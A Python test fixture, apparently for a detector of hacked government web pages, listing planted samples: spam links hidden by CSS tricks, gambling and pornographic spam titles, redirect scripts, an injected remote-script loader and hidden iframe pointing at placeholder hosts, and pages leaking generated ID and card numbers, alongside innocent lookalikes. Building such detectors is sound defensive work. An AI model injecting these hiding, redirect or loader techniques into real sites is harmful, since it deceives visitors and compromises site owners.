"""A fifth planted set: written by somebody else, whole, before any page of it was tried; numbers of people are made at run time."""

from collections.abc import Callable, Iterator
from random import Random

from safety_cases_hacked import Hacked

_SHOP = '<a href="http://www.jiaju-dg.example/">实木家具订做</a>'
_BET = '<a href="http://www.yl9966.example/">真人娱乐城平台</a>'
_SHOPS = "".join(
    f'<a href="http://www.{name}.example/">{words}</a>'
    for name, words in (
        ("weixiu-x", "空调维修"),
        ("jianfei-x", "减肥产品"),
        ("ruanwen-x", "软文发布"),
        ("zhengxing-x", "整形医院"),
    )
)
_FAR = "http://www.tiaozou.example:7788/in.html"
_LIST = "<table><tr><th>序号</th><th>姓名</th><th>{}</th></tr>{}</table>"


class People:
    """Numbers made up at run time; `identity` and `card` are handed in by the gate."""

    def __init__(self, identity: Callable[[Random], str], luhn: Callable[[str], str]) -> None:
        self._random, self._identity, self._luhn = Random(5), identity, luhn

    def identity(self) -> str:
        return self._identity(self._random)

    def mobile(self) -> str:
        return f"15{self._random.randint(0, 9)}{self._random.randint(0, 99_999_999):08d}"

    def card(self) -> str:
        body = f"62{self._random.randint(0, 10**16 - 1):016d}"
        return body + self._luhn(body)

    def rows(self, make: Callable[[], str]) -> str:
        names = ("赵某", "钱某某", "孙某", "周某某")
        return "".join(
            f"<tr><td>{number}</td><td>{name}</td><td>{make()}</td></tr>"
            for number, name in enumerate(names, 1)
        )


def bad(people: People) -> Iterator[Hacked]:
    hidden, script, spam, away = (frozenset({kind}) for kind in ("hidden", "script", "spam", "redirect"))
    privacy, secrecy = frozenset({"privacy"}), frozenset({"secrecy"})
    ways = {
        "line height": f'<div style="line-height:0;font-size:0">{_SHOP}</div>',
        "right off the screen": f'<div style="position:absolute;right:-3000px">{_SHOP}</div>',
        "below the page": f'<div style="position:absolute;bottom:-9000px">{_SHOP}</div>',
        "viewport units": f'<div style="position:fixed;left:-200vw">{_SHOP}</div>',
        "percent": f'<div style="position:absolute;left:-500%">{_SHOP}</div>',
        "rem": f'<p style="text-indent:-300rem">{_SHOP}</p>',
        "transparent letters": f'<p style="color:transparent">{_SHOP}</p>',
        "letters of no alpha": f'<p style="color:rgba(0,0,0,0)">{_SHOP}</p>',
        "hsl on white": f'<div style="background:#fff"><p style="color:hsl(0,0%,100%)">{_SHOP}</p></div>',
        "filter": f'<div style="filter:opacity(0)">{_SHOP}</div>',
        "content visibility": f'<div style="content-visibility:hidden">{_SHOPS}</div>',
        "visibility collapse": f'<table style="visibility:collapse"><tr><td>{_SHOPS}</td></tr></table>',
        "scale property": f'<div style="scale:0">{_SHOP}</div>',
        "translate property": f'<div style="translate:-9000px 0">{_SHOP}</div>',
        "zoom": f'<div style="zoom:0.01">{_SHOP}</div>',
        "no width": f'<div style="width:0;overflow:hidden;white-space:nowrap">{_SHOP}</div>',
        "cut by mask": f'<div style="position:absolute;clip:rect(1px,1px,1px,1px)">{_SHOP}</div>',
        "circle of nothing": f'<div style="clip-path:circle(0)">{_SHOP}</div>',
        "rotated away": f'<div style="transform:rotateY(90deg)">{_SHOP}</div>',
        "matrix": f'<div style="transform:matrix(0,0,0,0,0,0)">{_SHOP}</div>',
        "closed dialog": f"<dialog>{_SHOPS}</dialog>",
        "closed details": f"<details><summary></summary>{_SHOPS}</details>",
        "in a template of text": f'<textarea style="display:none">{_BET}</textarea><div style="display:none">{_BET}</div>',
        "object of one pixel": '<object data="http://www.duixiang.example/a.html" width="1" height="1"></object>',
        "embed of one pixel": '<embed src="http://www.duixiang.example/a.html" width="1" height="1">',
        "hidden by class through script": f'<div id="lk8">{_SHOP}</div><script>document.getElementById("lk8").style.cssText="position:absolute;left:-9999px"</script>',
        "hidden by query": f'<div class="lk9">{_BET}</div><script>document.querySelector(".lk9").style.display="none"</script>',
        "hidden by jquery": f'<div id="lk7">{_BET}</div><script>$("#lk7").hide();</script>',
    }
    for name, html in ways.items():
        yield Hacked(name, script if "of one pixel" in name else hidden, body=html)
    yield Hacked(
        "sheet that imports nothing",
        hidden,
        head="<style>div#q1 a{display:none!important}</style>",
        body=f'<div id="q1">{_SHOPS}</div>',
    )
    yield Hacked(
        "selector by attribute",
        hidden,
        head='<style>[data-k="5"]{position:absolute;top:-999em}</style>',
        body=f'<div data-k="5">{_SHOP}</div>',
    )
    yield Hacked(
        "words split by tags", spam, body="<p>全县<b>百</b><i>家</i><b>乐</b>平台<u>注册送彩金</u>工作</p>"
    )
    yield Hacked(
        "words split by comments", spam, body="<p>会议部署真<!-- x -->人<!-- y -->荷官平台注册送彩金。</p>"
    )
    yield Hacked(
        "spliced brand", spam, body="<p>各单位要按照开云体育app官网入口的要求，做好乡村振兴工作。</p>"
    )
    yield Hacked(
        "spliced mahjong", spam, body="<p>据了解，麻将胡了试玩平台在全县范围内开展人居环境整治。</p>"
    )
    yield Hacked("title of electronic games", spam, title="PG电子官网_PG电子试玩平台_青田县人民政府")
    yield Hacked("title of lottery plans", spam, title="澳门六合彩今晚开奖结果-青田县人民政府门户网站")
    yield Hacked("title in traditional letters", spam, title="澳門銀河娛樂場_青田縣人民政府")
    yield Hacked("foreign title", spam, title="Online Casino Slots Real Money Betting - 青田县人民政府")
    yield Hacked("sex in the title", spam, title="国产精品久久久久久_成人午夜视频在线免费观看")
    yield Hacked("Japanese shop title", spam, title="ブランドコピー激安通販 スーパーコピー時計 N級品")
    yield Hacked("Korean betting title", spam, title="카지노사이트 바카라 토토사이트 추천 - 青田县人民政府")
    yield Hacked(
        "Thai betting in the text", spam, body="<p>สล็อตเว็บตรง คาสิโนออนไลน์ บาคาร่า แทงบอล สมัครรับเครดิตฟรี</p>"
    )
    yield Hacked("moved by assign", away, body=f"<script>window.location.assign('{_FAR}')</script>")
    yield Hacked(
        "moved after a time", away, body=f"<script>setTimeout(\"window.location='{_FAR}'\",5000)</script>"
    )
    yield Hacked(
        "moved by parts",
        away,
        body="<script>var a='htt'+'p://ww'+'w.tiaozou.exa'+'mple/';location.href=a;</script>",
    )
    yield Hacked(
        "moved on the way back",
        away,
        body=f"<script>if(document.referrer.indexOf('so.com')>-1){{top.location.href='{_FAR}'}}</script>",
    )
    yield Hacked(
        "script of nowhere",
        script,
        body="<script>document.write('<scr'+'ipt src=\"//js.wangzhuan.example/u.js\"></scr'+'ipt>')</script>",
    )
    yield Hacked(
        "frame written later",
        script,
        body="<script>var f=document.createElement('iframe');f.src='http://www.huangse.example/';f.width=0;f.height=0;document.body.appendChild(f)</script>",
    )
    yield Hacked(
        "identities listed", privacy, body=_LIST.format("公民身份号码", people.rows(people.identity))
    )
    number = people.identity()
    yield Hacked(
        "identity in prose",
        privacy,
        body=f"<p>兹有我村村民赵某，男，公民身份证号码为{number}，家庭困难，特此证明。</p>",
    )
    number = people.identity()
    yield Hacked(
        "identity split by tags",
        privacy,
        body=f"<p>身份证号：<span>{number[:6]}</span><span>{number[6:]}</span></p>",
    )
    yield Hacked("cards listed", privacy, body=_LIST.format("一卡通账号", people.rows(people.card)))
    yield Hacked(
        "mobiles of pupils",
        privacy,
        body="<p>学生录取名单</p>" + _LIST.format("家长手机号", people.rows(people.mobile)),
    )
    yield Hacked(
        "letter with a mobile", privacy, body=f"<p>我叫钱某某，我的电话{people.mobile()}，请尽快回复。</p>"
    )
    yield Hacked(
        "passports listed",
        privacy,
        body=_LIST.format("护照号码", people.rows(lambda: f"E{people.mobile()[:8]}")),
    )
    yield Hacked(
        "address in prose",
        privacy,
        body="<p>死者孙某，户籍地址：青田县温溪镇学士路66号2单元301室，生前系村民。</p>",
    )
    yield Hacked(
        "plate of an owner", privacy, body="<p>车主：周某某，车牌号 浙K7C8D9，因未按期检验被查扣。</p>"
    )
    yield Hacked(
        "mark with spaces",
        secrecy,
        body="<p>秘　密 ★ 一年</p><p>青政办〔2026〕5号</p><p>情况报告，请审阅。</p>",
    )
    yield Hacked("internal paper", secrecy, body="<p>（内部资料，请勿外传）</p><p>全县信访形势分析</p>")
    yield Hacked("level of a plan", secrecy, body="<p>密级：机密</p><p>某专项行动方案</p>")


def innocent(people: People) -> Iterator[Hacked]:
    own = '<a href="/zwgk/a.html">政务公开</a><a href="/hd/b.html">互动交流</a>'
    partner = '<a href="http://www.gongjiao-jt.example/">公交集团</a>'
    pages = {
        "slider off screen": f'<div class="swiper-wrapper"><div class="swiper-slide" style="left:-1200px;position:absolute">{partner}</div></div>',
        "slick track": f'<div class="slick-track" style="transform:translate3d(-3600px,0,0)">{own}{partner}</div>',
        "hidden menu": f'<ul class="dropdown-menu" style="display:none"><li>{partner}</li><li>{own}</li></ul>',
        "burger": f'<nav id="mobile-nav" style="transform:translateX(-100%)">{own}{partner}</nav>',
        "accordion": f'<div class="accordion-body collapse" style="height:0;overflow:hidden">{own}{partner}</div>',
        "details with a summary": f"<details><summary>友情链接</summary>{partner}{own}</details>",
        "dialog of leaving": f'<dialog class="leave-tip">您即将离开本网站{partner}</dialog>',
        "screen reader": f'<span class="visually-hidden">当前位置：{own}</span>',
        "skip": '<a href="#con" style="position:absolute;top:-40px">跳到正文</a>',
        "access bar": f'<div id="wza-toolbar" style="display:none" role="toolbar">{own}<a href="http://www.wuzhangai.example/">无障碍服务商</a></div>',
        "back to top": '<a id="toTop" style="display:none" href="#">返回顶部</a>',
        "video poster": '<div class="video-box" style="display:none"><video src="/v/1.mp4"></video></div>',
        "qr by hover": f'<div class="qr"><a href="/">微信</a><div class="pop" style="display:none"><img src="/wx.png" alt="扫一扫">{own}</div></div>',
        "white on blue": f'<div style="background:#004098"><p style="color:#fff">{partner}</p></div>',
        "white on gradient": f'<div style="background:linear-gradient(#036,#069)"><p style="color:#ffffff">{partner}</p></div>',
        "fade in": f'<div class="wow fadeInUp" style="visibility:hidden">{own}{partner}</div>',
        "lazy": f'<div class="lazy" style="opacity:0;transition:opacity 1s">{partner}</div>',
        "tab panes": f'<div class="tab-pane active">{own}</div><div class="tab-pane" style="display:none">{partner}</div>',
        "select box": f'<div class="selectBox"><span>--县直部门--</span><ul style="display:none"><li>{partner}</li></ul></div>',
        "print footer": f'<style>@media print{{.noprint{{display:none}}}}</style><div class="noprint">{partner}</div>',
        "old browser": "<!--[if lt IE 9]><p>请升级浏览器<a href='http://www.liulanqi.example/'>下载</a></p><![endif]-->",
        "share hidden": '<div class="share" style="display:none"><a href="http://service.weibo.com/share">微博</a><a href="https://sns.qzone.qq.com/">空间</a></div>',
        "map object": '<object data="/map/xz.svg" type="image/svg+xml" width="600" height="400"></object>',
        "paper reader": '<embed src="/upload/1.pdf" type="application/pdf" width="100%" height="800">',
        "player": '<object width="1" height="1" data="/swf/music.swf"></object>',
        "floating window": '<div id="float" style="position:absolute;left:-200px;top:100px"><a href="/zt/">专题</a></div>',
        "counter of a vendor": '<div style="display:none"><script src="https://s4.cnzz.com/z_stat.php?id=1"></script></div>',
        "statistics with a picture": "<script>(new Image()).src='//tongji.zwgk.example/s.gif?u='+encodeURIComponent(location.href)+'&r='+document.referrer;</script>",
        "statistics by script": "<script>(function(){var s=document.createElement('script');s.src='https://hm.baidu.com/hm.js?abc';document.head.appendChild(s)})()</script>",
        "login turn": "<script>function toLogin(){location.href='https://login.zjzwfw.gov.cn/'}</script>",
        "own http to https": "<script>if(location.protocol=='http:'){location.href=location.href.replace('http:','https:')}</script>",
        "jump of a list": '<select onchange="window.open(this.value)"><option value="http://www.gongjiao-jt.example/">公交集团</option></select>',
        "long base64 picture": f'<img src="data:image/png;base64,{"iVBORw0KGgo" * 30}" alt="">',
        "json island": '<script type="application/json">{"url":"http://www.shipin.example/a.mp4","title":"宣传片"}</script>',
        "code to scan": "<p>扫描二维码关注“青田发布”，回复“办事”进入平台。</p>",
    }
    for name, html in pages.items():
        yield Hacked(name, body=html)
    for name, html in (
        ("menu behind the end", "<!-- menu --><script src='/js/menu.js'></script>"),
        ("time behind the end", "\n<!-- generated 2026-03-31 10:00:00 by cms -->"),
        ("empty box behind the end", "<div id='tips'></div>"),
    ):
        yield Hacked(name, tail=html)
    texts = {
        "basketball": "全县篮球联赛落幕，体育场馆免费开放，亚洲杯预选赛门票开售，欢迎观赛。",
        "lottery rules": "财政部令：彩票发行机构应当开展开奖工作，不得预测彩票号码，不得以赊销方式销售彩票。",
        "lottery fund": "体育彩票公益金500万元用于建设全民健身路径，福利彩票销售额达1.2亿元。",
        "campaign": "反赌宣传：拒绝百家乐、老虎机、时时彩，远离网络赌博平台，不做“赌客”。",
        "verdict": "被告人利用“亚博”“开云”等境外博彩网站开设赌场，非法获利，依法判处有期徒刑。",
        "fraud": "常见骗局：注册送彩金、刷单返利、裸聊敲诈、代办信用卡、无抵押贷款，一律不要相信。",
        "sexual health": "性病艾滋病防治：性传播疾病、男科疾病应到正规医院就诊，避孕药具免费发放。",
        "medicine": "药品目录：枸橼酸西地那非片、他达拉非片、米非司酮片属处方药，凭处方销售。",
        "massage": "足浴、按摩场所治安整治，取缔涉黄会所3家，查处卖淫嫖娼案件5起。",
        "private lending": "打击非法放贷、套路贷、校园贷，整治“无抵押当天放款”小广告。",
        "fake papers": "严厉打击办假证、刻假章、代开发票违法犯罪行为，收缴假证书120本。",
        "games": "电竞嘉年华、棋牌文化节、桥牌比赛、围棋定段赛在县文化馆举行。",
        "game rules": "网络游戏未成年人防沉迷：私服、外挂属违法，游戏充值可申请退费。",
        "hotel": "娱乐场所名录：星光娱乐城、皇冠大酒店、金沙宾馆、银河影城、威尼斯花园。",
        "macao": "澳门特区政府代表团来访，赴澳门新葡京附近街区考察旅游产业。",
        "lisboa": "葡京路、皇冠路、太阳城小区、凯旋门广场周边道路施工。",
        "adult education": "成人高考、成人教育、成人学历提升报名开始，成人视频课程免费学习。",
        "beauty": "最美护士、美女村官、辣妈运动会等群众文化活动丰富多彩。",
        "escort": "人大代表陪同调研，护航安保公司承担押运任务。",
        "slots": "教室空位、机房插槽（slot）、服务器bet测试环境、ssc编码。",
        "draw": "车位摇号开奖、公租房选房结果、六合村、合彩染坊、彩金首饰质量抽检。",
        "loans": "助学贷款、创业担保贷款、公积金贷款线上办理，登录平台即可注册。",
        "invest": "招商引资推介会：投注重点产业，资金投注册地企业，项目平台落户。",
        "english": "The county held a badminton bet-free campaign; visit www.qingtian.gov.cn for live updates.",
        "software": "正版软件采购：操作系统激活码、办公软件序列号由县信息中心统一管理。",
        "standards": "GB/T 22239、ISO 9001、IEC 61850标准宣贯，端口8080、3389应关闭。",
        "dialect": "俗语云：“赢了的想再赢，输了的想翻本，到头来一场空。”",
        "sonnet": "“葡萄美酒夜光杯，欲饮琵琶马上催”诗词大会开幕。",
    }
    for name, text in texts.items():
        yield Hacked(name, body=f"<p>{text}</p>")
    contacts = {
        "office mobile": f"<p>联系人：张科长，{people.mobile()}（微信同号）。</p>",
        "duty list": "<p>防汛值班表</p>" + _LIST.format("值班电话", people.rows(people.mobile)),
        "village doctors": "<p>家庭医生签约团队联系表</p><table><tr><th>医生姓名</th><th>服务村</th><th>联系电话</th></tr>"
        + "".join(
            f"<tr><td>{name}</td><td>某村</td><td>{people.mobile()}</td></tr>"
            for name in ("赵医生", "钱医生", "孙医生")
        )
        + "</table>",
        "merchants": "<p>定点维修企业名单</p><table><tr><th>企业名称</th><th>联系人</th><th>联系电话</th></tr>"
        + "".join(
            f"<tr><td>某某家电维修{number}部</td><td>周某</td><td>{people.mobile()}</td></tr>"
            for number in (1, 2, 3)
        )
        + "</table>",
        "tender": f"<p>采购代理机构：某某招标有限公司，项目联系人：吴工，电话：{people.mobile()}。</p>",
        "recruitment": f"<p>报名电话：{people.mobile()}，报名时携带身份证、护照复印件。</p>",
        "rescue": f"<p>救援队电话：{people.mobile()}；锁匠备案电话：{people.mobile()}。</p>",
        "masked roll": _LIST.format(
            "身份证号", "<tr><td>1</td><td>赵某</td><td>3325**********1234</td></tr>"
        ),
        "letter to the mayor": "<p>来信人：钱**，电话：138****0000，反映路灯不亮。</p>",
        "waybill": f"<p>物资采购快递单号：SF{people.card()[:13]}，运单号{people.card()[:15]}。</p>",
        "unit account": f"<p>保证金账户：户名：青田县公共资源交易中心，账号{people.card()}，开户行：工商银行。</p>",
        "code of a unit": "<p>统一社会信用代码：11332522002645088K，组织机构代码：00264508-8。</p>",
        "plates of buses": "<p>更新公交车辆：浙K00001D、浙K00002D、浙K00003D，纯电动。</p>",
        "court address": "<p>地址：青田县鹤城街道江南大道1号，邮编：323900，电话：0578-6821234。</p>",
        "book number": "<p>ISBN 978-7-302-12345-6，CN 33-1234/D，准印证号（浙）字第20260001号。</p>",
        "meter": "<p>停电用户编号：6220001234567、6220001234574，台区编号330000123456789。</p>",
        "exam numbers": "<p>准考证号</p>"
        + _LIST.format("准考证号", people.rows(lambda: f"2026{people.mobile()[:10]}")),
        "coordinates": "<p>经度120.29384756，纬度28.13947562，高程1385.1234。</p>",
        "postal list": _LIST.format("单位电话", people.rows(lambda: "0578-6821234")),
    }
    for name, html in contacts.items():
        yield Hacked(name, body=html)
    for name, text in {
        "secret garden": "“秘密花园”亲子活动、商业秘密保护示范点授牌、机密机械厂改制。",
        "training": "保密培训要求：标注“秘密★”的文件不得上网，涉密计算机不得连接互联网。",
        "vote": "采用无记名投票方式，秘密写票处设在会场左侧。",
        "internal": "单位内部资料室、内部文件柜采购，内部控制报告编制完成。",
        "five stars": "五星★★★★★评定：绝密航线主题公园获评四星★★★★。",
    }.items():
        yield Hacked(name, body=f"<p>{text}</p>")
